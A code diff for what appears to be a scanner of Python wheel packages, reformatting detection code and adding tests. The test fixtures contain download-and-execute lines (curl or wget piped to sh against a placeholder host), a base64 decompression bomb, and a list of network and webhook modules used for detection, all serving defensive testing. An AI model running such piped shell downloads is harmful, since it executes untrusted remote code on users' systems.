@@ -116,8 +116,14 @@ fn file_kind(path: &str, data: &[u8]) -> FileKind {
     if lower.ends_with(".pth") {
         return FileKind::Pth;
     }
-    const SCRIPT_EXT: &[&str] = &[".sh", ".bash", ".zsh", ".bat", ".cmd", ".ps1", ".psm1", ".vbs", ".command"];
-    if SCRIPT_EXT.iter().any(|e| lower.ends_with(e)) || data.starts_with(b"#!") && !data.starts_with(b"#!/usr/bin/env python") && !data.starts_with(b"#!/usr/bin/python") {
+    const SCRIPT_EXT: &[&str] = &[
+        ".sh", ".bash", ".zsh", ".bat", ".cmd", ".ps1", ".psm1", ".vbs", ".command",
+    ];
+    if SCRIPT_EXT.iter().any(|e| lower.ends_with(e))
+        || data.starts_with(b"#!")
+            && !data.starts_with(b"#!/usr/bin/env python")
+            && !data.starts_with(b"#!/usr/bin/python")
+    {
         return FileKind::Script;
     }
     if data.starts_with(b"#!") {
@@ -178,7 +184,20 @@ impl FileCx<'_> {
     pub fn has_network(&self) -> bool {
         self.facts.is_some_and(|f| {
             f.calls.iter().any(|c| c.is_network())
-                || f.imports_any(&["socket", "requests", "urllib.request", "urllib2", "http.client", "httpx", "aiohttp", "smtplib", "ftplib", "discord_webhook", "dhooks"]).is_some()
+                || f.imports_any(&[
+                    "socket",
+                    "requests",
+                    "urllib.request",
+                    "urllib2",
+                    "http.client",
+                    "httpx",
+                    "aiohttp",
+                    "smtplib",
+                    "ftplib",
+                    "discord_webhook",
+                    "dhooks",
+                ])
+                .is_some()
         })
     }
 }
@@ -196,7 +215,12 @@ pub struct Emitter<'a> {
 }
 
 impl<'a> Emitter<'a> {
-    pub fn new(path: &'a str, artifact: &'a str, text: Option<&'a str>, lines: &'a LineIndex) -> Self {
+    pub fn new(
+        path: &'a str,
+        artifact: &'a str,
+        text: Option<&'a str>,
+        lines: &'a LineIndex,
+    ) -> Self {
         Self {
             path,
             artifact,
@@ -218,15 +242,18 @@ impl<'a> Emitter<'a> {
         message: impl Into<String>,
         decoded: Option<&str>,
     ) {
+        let message = crate::redact::redact_text(&message.into());
         if !self.seen.insert((rule.id, line)) {
             // Keep the worst severity for a line reported twice.
-            if let Some(f) = self.findings.iter_mut().find(|f| {
-                f.rule == rule.id && f.location.line == (line > 0).then_some(line)
-            }) {
+            if let Some(f) = self
+                .findings
+                .iter_mut()
+                .find(|f| f.rule == rule.id && f.location.line == (line > 0).then_some(line))
+            {
                 if severity > f.severity {
                     f.severity = severity;
                     f.confidence = confidence;
-                    f.message = message.into();
+                    f.message = message;
                 }
             }
             return;
@@ -358,4 +385,153 @@ pub fn inspect_file(
         (rule.check)(&cx, &mut out);
     }
     out.findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::rules::testutil::artifact;
+
+    fn run(files: &[(&str, &[u8])]) -> Vec<Finding> {
+        inspect(
+            &artifact("pkg-1.0-py3-none-any.whl", files),
+            &InspectOptions::default(),
+        )
+    }
+
+    #[test]
+    fn one_finding_per_rule_and_line_and_a_cap_per_file() {
+        let line = "import os; os.system('curl https://x.example.invalid | sh'); os.system('wget -qO- https://x.example.invalid | sh')\n";
+        let src = line.repeat(40);
+        let f = run(&[("pkg/__init__.py", src.as_bytes())]);
+        let sd: Vec<_> = f.iter().filter(|f| f.rule == "shell-downloader").collect();
+        assert_eq!(sd.len(), MAX_PER_RULE_PER_FILE);
+        let lines: HashSet<_> = sd.iter().map(|f| f.location.line).collect();
+        assert_eq!(lines.len(), sd.len());
+        assert!(sd
+            .iter()
+            .all(|f| f.artifact.as_deref() == Some("pkg-1.0-py3-none-any.whl")));
+        assert!(sd
+            .iter()
+            .all(|f| f.package.is_none() && f.version.is_none()));
+    }
+
+    #[test]
+    fn disabled_rules_are_skipped() {
+        let src = b"import os\nos.system('curl https://x.example.invalid | sh')\n";
+        let a = artifact("pkg-1.0-py3-none-any.whl", &[("pkg/__init__.py", src)]);
+        let opts = InspectOptions {
+            disabled: vec!["shell-downloader".into()],
+        };
+        assert!(inspect(&a, &opts)
+            .iter()
+            .all(|f| f.rule != "shell-downloader"));
+        assert!(inspect(&a, &InspectOptions::default())
+            .iter()
+            .any(|f| f.rule == "shell-downloader"));
+    }
+
+    #[test]
+    fn invalid_utf8_gets_a_raw_pass() {
+        let mut src =
+            b"# \xff\xfe broken\nimport os\nos.system('curl https://x.example.invalid/a | bash')\n"
+                .to_vec();
+        src.extend_from_slice(b"\xc3\x28\n");
+        let f = run(&[("pkg/__init__.py", &src)]);
+        assert!(
+            f.iter()
+                .any(|f| f.rule == "shell-downloader" && f.location.line == Some(3)),
+            "{f:?}"
+        );
+    }
+
+    #[test]
+    fn python2_files_still_yield_findings() {
+        let src = b"import os\nprint 'hi'\nos.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/__init__.py", src)]);
+        assert!(f.iter().any(|f| f.rule == "shell-downloader"));
+    }
+
+    #[test]
+    fn hostile_input_does_not_panic() {
+        let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
+        let nested: String = (0..300)
+            .map(|i| format!("{}if x:\n", " ".repeat(i)))
+            .collect::<String>()
+            + &" ".repeat(300)
+            + "pass\n";
+        let calls = format!("{}0{}", "f(".repeat(3000), ")".repeat(3000));
+        let lists = format!("''.join(chr(c) for c in [{}])", "104,".repeat(100_000));
+        let bomb = "import base64\nx = 'QUFB' * 10000000\nbase64.b64decode(x)\n";
+        let garbage: Vec<u8> = (0..20_000u32)
+            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+            .collect();
+        let weird = "é = 'ü' * 3\ns = 'ab'\ns += 'cd'\ns += 1\nexec(s[::-1])\n'\u{10ffff}'[::-1]\nb'\\xff'.decode()\n";
+        let files: Vec<(&str, &[u8])> = vec![
+            ("pkg/deep.py", deep.as_bytes()),
+            ("pkg/nested.py", nested.as_bytes()),
+            ("pkg/calls.py", calls.as_bytes()),
+            ("pkg/lists.py", lists.as_bytes()),
+            ("pkg/bomb.py", bomb.as_bytes()),
+            ("pkg/garbage.py", &garbage),
+            ("pkg/garbage.pth", &garbage),
+            ("pkg/garbage.sh", &garbage),
+            ("pkg/weird.py", weird.as_bytes()),
+            ("pkg/empty.py", b""),
+            ("pkg/mz.exe", b"MZ\xff\xff\xff\xff"),
+        ];
+        let _ = run(&files);
+    }
+
+    #[test]
+    fn binary_magic() {
+        assert_eq!(binary_format(b"\x7fELF\x02"), Some(BinaryFormat::Elf));
+        assert_eq!(
+            binary_format(b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
+            Some(BinaryFormat::MachO)
+        );
+        // A Java class file shares the fat Mach-O magic.
+        assert_eq!(binary_format(b"\xca\xfe\xba\xbe\0\0\0\x34"), None);
+        assert_eq!(binary_format(b"MZ"), None);
+    }
+
+    #[test]
+    fn context_grading_across_roles() {
+        let src = b"import os\nos.system('curl https://x.example.invalid/a | sh')\n";
+        let sev = |path: &str| {
+            run(&[(path, src)])
+                .into_iter()
+                .filter(|f| f.rule == "shell-downloader")
+                .map(|f| f.severity)
+                .max()
+        };
+        assert_eq!(sev("pkg/__init__.py"), Some(Severity::Critical));
+        assert_eq!(sev("pkg/tests/test_a.py"), Some(Severity::Low));
+        let in_fn =
+            b"import os\ndef f():\n    os.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/a.py", in_fn)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
+        let guarded = b"import os\nif __name__ == '__main__':\n    os.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/a.py", guarded)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
+    }
+
+    #[test]
+    fn credentials_in_urls_are_redacted_in_evidence() {
+        let src =
+            b"import requests\ndef f():\n    requests.get('https://user:hunter2@192.0.2.8/x')\n";
+        let f = run(&[("pkg/a.py", src)]);
+        assert!(!f.is_empty());
+        for x in &f {
+            assert!(
+                !x.evidence.as_deref().unwrap_or("").contains("hunter2"),
+                "{x:?}"
+            );
+            assert!(!x.message.contains("hunter2"), "{x:?}");
+        }
+    }
 }
